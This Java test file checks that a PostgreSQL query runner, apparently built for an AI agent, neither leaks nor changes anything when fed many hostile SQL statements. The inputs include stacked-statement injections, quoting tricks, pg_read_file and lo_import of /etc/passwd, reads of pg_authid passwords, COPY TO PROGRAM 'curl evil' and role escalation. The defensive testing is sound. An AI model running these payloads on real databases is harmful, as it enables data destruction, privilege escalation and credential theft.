package dev.pgherd.sql;

import static org.assertj.core.api.Assertions.assertThat;

import java.sql.Connection;
import java.sql.SQLException;
import java.time.Duration;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Held by effect: what came out, what changed, and what the next caller of the same connection finds. */
class HostileStatementsTest {

    private static final SqlLimits LIMITS = new SqlLimits(Duration.ofMillis(1500), 100, 100_000, 10_000);
    private static final String DATA = "SELECT (SELECT md5(string_agg(u::text, ',' ORDER BY id)) FROM users u)"
            + " || (SELECT count(*) FROM secrets) || (SELECT count(*) FROM pg_class WHERE relkind IN ('r', 'v', 'S')"
            + " AND relnamespace = 'public'::regnamespace) || (SELECT count(*) FROM pg_proc)"
            + " || (SELECT count(*) FROM pg_largeobject_metadata)";
    private static final String SESSION =
            "SELECT pg_backend_pid(), session_user, current_user, current_setting('role'),"
                    + " current_setting('search_path'), current_setting('statement_timeout'),"
                    + " current_setting('lock_timeout'), current_setting('idle_in_transaction_session_timeout'),"
                    + " current_setting('transaction_timeout'),"
                    + " current_setting('default_transaction_read_only'), current_setting('standard_conforming_strings'),"
                    + " (SELECT count(*) FROM pg_locks WHERE pid = pg_backend_pid() AND locktype = 'advisory'),"
                    + " (SELECT count(*) FROM pg_prepared_statements), (SELECT count(*) FROM pg_cursors WHERE is_holdable),"
                    + " (SELECT count(*) FROM pg_listening_channels()), (SELECT count(*) FROM users)";

    private static AgentDatabase database;
    private static Connection connection;

    private final SqlRunner runner = new SqlRunner();

    @BeforeAll
    static void start() throws SQLException {
        database = AgentDatabase.start();
        database.asOwner(
                "REVOKE ALL ON users FROM pgherd_reader",
                "GRANT SELECT (id, a, name) ON users TO pgherd_reader",
                "CREATE TABLE \"Secrets\"(id int)",
                "GRANT SELECT ON \"Secrets\" TO pgherd_reader",
                "CREATE FUNCTION meddle() RETURNS int LANGUAGE plpgsql AS $$ BEGIN UPDATE users SET a = 0;"
                        + " RETURN 1; END $$",
                "CREATE FUNCTION dynamic(t text) RETURNS text LANGUAGE plpgsql AS $$ DECLARE r text; BEGIN"
                        + " EXECUTE 'SELECT v FROM ' || t INTO r; RETURN r; END $$",
                "CREATE FUNCTION raise_it() RETURNS int LANGUAGE plpgsql AS $$ BEGIN FOR i IN 1..20000 LOOP"
                        + " RAISE NOTICE '%%', repeat('x', 1000); END LOOP; RETURN 1; END $$");
        connection = database.connect("pgherd_reader", ConnectionOptions.of(LIMITS.statementTimeout(), 17));
    }

    @AfterAll
    static void stop() throws SQLException {
        connection.close();
        database.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT 1; DROP TABLE secrets",
                "SELECT 1; COMMIT; DROP TABLE secrets;--",
                "COMMIT; INSERT INTO users VALUES (9)",
                "ROLLBACK; INSERT INTO users VALUES (9); COMMIT",
                "SET TRANSACTION READ WRITE; INSERT INTO users VALUES (9); COMMIT",
                "SELECT $a$ $$ $b$ '; $a$; DELETE FROM users --$a$",
                "SELECT E'\\'; DELETE FROM users; --'",
                "SELECT '\\'; DELETE FROM users; --'",
                "SELECT E'a'\n'\\'; DELETE FROM users; --'",
                "SELECT 1;;;",
                "/* SELECT 1 */ DELETE FROM users",
                "SELECT E'\\'', v FROM secrets --'",
                "SELECT '\\', v FROM secrets --'",
                "SELECT U&'\\0027', v FROM secrets --'",
                "SELECT $é$'$é$, v FROM secrets --'",
                "SELECT 1/*/**/*/, v FROM secrets --*/",
                "SELECT {fn user()}",
                "SELECT 1\0; DROP TABLE secrets",
                "SELECT * FROM secrets",
                "TABLE secrets",
                "SELECT * FROM U&\"\\0073ecrets\"",
                "SELECT * FROM \"Secrets\"",
                "SELECT * FROM ONLY (secrets)",
                "SELECT row_to_json(s) FROM secrets s",
                "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
                "SELECT (SELECT array_agg(v) FROM secrets)",
                "SELECT * FROM users u, LATERAL (SELECT * FROM secrets s WHERE s.id = u.id) x",
                "SELECT 1 UNION ALL (SELECT 2 EXCEPT SELECT id FROM secrets)",
                "SELECT ssn FROM users",
                "SELECT * FROM users",
                "SELECT u FROM users u",
                "SELECT (u).ssn FROM users u",
                "SELECT u.row_to_json FROM users u",
                "SELECT a2 FROM users AS u(a1, a2)",
                "SELECT id FROM users WHERE ssn LIKE '1%'",
                "SELECT most_common_vals FROM pg_stats WHERE tablename = 'secrets'",
                "SELECT rolpassword FROM pg_authid",
                "SELECT pg_read_file('/etc/passwd')",
                "SELECT lo_import('/etc/passwd')",
                "SELECT lo_create(0)",
                "SELECT table_to_xml('secrets', true, true, '')",
                "SELECT query_to_xml('select * from secrets', true, true, '')",
                "SELECT * FROM ts_stat('select v::tsvector from secrets')",
                "SELECT pg_sleep(30)",
                "SELECT set_config('statement_timeout', '0', false)",
                "SELECT set_config('search_path', 'evil', false)",
                "SELECT set_config('role', 'postgres', false)",
                "SELECT set_config('default_transaction_read_only', 'off', false)",
                "SELECT set_config('transaction_read_only', 'off', false)",
                "SELECT set_config('standard_conforming_strings', 'off', false)",
                "SELECT pg_notify('c', 'x'), txid_current(), pg_advisory_lock(1), pg_advisory_lock_shared(2)",
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'postgres'",
                "SELECT pg_reload_conf()",
                "SELECT meddle()",
                "SELECT dynamic('secrets')",
                "SELECT raise_it()",
                "EXPLAIN ANALYZE SELECT meddle()",
                "EXPLAIN (FORMAT json, ANALYZE on) UPDATE users SET a = 1",
                "EXPLAIN (ANALYZE) CREATE TABLE x AS SELECT 1",
                "SELECT * INTO copied FROM evil.users",
                "SELECT * FROM users FOR UPDATE",
                "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
                "COPY secrets TO PROGRAM 'curl evil'",
                "COPY secrets TO STDOUT",
                "DO $$ BEGIN EXECUTE 'drop table ' || 'secrets'; END $$",
                "PREPARE p AS DELETE FROM users",
                "EXECUTE p",
                "SET ROLE postgres",
                "SET SESSION AUTHORIZATION postgres",
                "SET LOCAL search_path = evil, pg_catalog",
                "SET standard_conforming_strings = off",
                "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM secrets",
                "MERGE INTO users u USING secrets s ON u.id = s.id WHEN MATCHED THEN DELETE",
                "LOCK TABLE users IN ACCESS EXCLUSIVE MODE",
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'delete from users; select 1'",
                "CREATE TEMP TABLE users(id int)",
                "LISTEN x",
                "LOAD 'evil.so'",
                "BEGIN",
            })
    void getNothingOutAndLeaveNothingBehind(String sql) throws SQLException {
        // Given
        var data = database.ask(DATA);
        var session = query(SESSION);

        // When
        var outcome = query(sql);

        // Then
        assertThat(outcome).doesNotContain("launch code", "111-11", "SCRAM-SHA-256", "root:");
        assertThat(query(SESSION)).isEqualTo(session);
        assertThat(database.ask(DATA)).isEqualTo(data);
    }

    /** The rows, or what stands in their place. */
    private String query(String sql) throws SQLException {
        var outcome = runner.query(connection, SqlRequest.of(sql), LIMITS);
        return outcome instanceof SqlOutcome.Rows rows ? rows.rows().toString() : outcome.toString();
    }
}
